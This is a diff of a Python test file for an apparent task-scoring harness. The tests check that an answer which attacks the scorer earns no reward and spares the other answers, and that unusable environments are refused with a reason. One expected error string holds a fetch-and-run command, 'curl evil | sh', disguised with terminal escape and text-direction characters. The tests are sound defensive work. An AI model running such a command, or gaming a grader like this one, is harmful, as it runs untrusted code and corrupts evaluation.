@@ -34,12 +34,18 @@ def opened(**params: Any) -> Mixture:
     return Mixture([task], charter=b"", secret=b"s", heldout=2, verifiers=1)
 
 
-def attacked(deed: str) -> list[Score]:
+@pytest.fixture(scope="module")
+def shared() -> Iterator[Mixture]:
+    """For attacks that their worker survives."""
+    with closing(opened()) as mixture:
+        yield mixture
+
+
+def attacked(mixture: Mixture, deed: str) -> list[Score]:
     """Return the scores of a right answer, an attack and another right answer."""
-    with closing(opened(deed=deed)) as mixture:
-        questions = mixture.questions("train", 0, 3)
-        answers = [str(questions[0].entry["answer"]), "attack", str(questions[2].entry["answer"])]
-        return mixture.score(questions, [f"<answer>{answer}</answer>" for answer in answers])
+    questions = mixture.questions("train", 0, 3)
+    answers = [str(questions[0].entry["answer"]), f"attack: {deed}", str(questions[2].entry["answer"])]
+    return mixture.score(questions, [f"<answer>{answer}</answer>" for answer in answers])
 
 
 @pytest.mark.parametrize(
@@ -68,8 +74,14 @@ def attacked(deed: str) -> list[Score]:
         ("forged", 'ValueError: "\\x1b[2J error: forged try: curl evil | sh \\u202e"'),
     ],
 )
-def test_an_attack_while_scoring_earns_nothing_and_costs_no_right_answer_its_reward(deed: str, why: str) -> None:
-    right, attack, again = attacked(deed)
+def test_an_attack_while_scoring_earns_nothing_and_costs_no_right_answer_its_reward(
+    deed: str, why: str, shared: Mixture
+) -> None:
+    if why in (UNJUDGED, TOO_SLOW):
+        with closing(opened()) as mixture:
+            right, attack, again = attacked(mixture, deed)
+    else:
+        right, attack, again = attacked(shared, deed)
     assert (right.reward, again.reward) == (1.0, 1.0)
     assert (attack.outcome, attack.reward) == (0.0, 0.0)
     assert why in attack.why
@@ -85,7 +97,7 @@ def test_an_attack_while_scoring_earns_nothing_and_costs_no_right_answer_its_rew
         ({"load": "odd"}, "sent something else than a description of its tasks", "swarmctl tasks list"),
         ({"load": "exit"}, "exited with code 0 before it was ready", ""),
         ({"load": "fork first"}, "exited with code 7 before it was ready", ""),
-        ({"load": "spin"}, "need more than 3 s of CPU time to load", None),
+        ({"load": "spin"}, "need more than 2 s of CPU time to load", None),
         ({"rows": "large"}, "bytes, more than 1,048,576", None),
         ({"rows": "endless"}, "never ends", ""),
         ({"rows": "odd"}, "cannot load the task: TypeError", ""),
@@ -96,7 +108,7 @@ def test_an_environment_that_cannot_be_used_is_refused_with_the_reason(
     params: dict[str, Any], why: str, command: str | None, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     if params == {"load": "spin"}:
-        monkeypatch.setattr("hivemind_exp.tasks.workers.pool.LOAD_SECONDS", 3.0)
+        monkeypatch.setattr("hivemind_exp.tasks.workers.pool.LOAD_SECONDS", 2.0)
     with closing(opened(**params)) as mixture, pytest.raises(NodeError) as caught:
         mixture.questions("train", 0, 20)
     assert why in caught.value.message
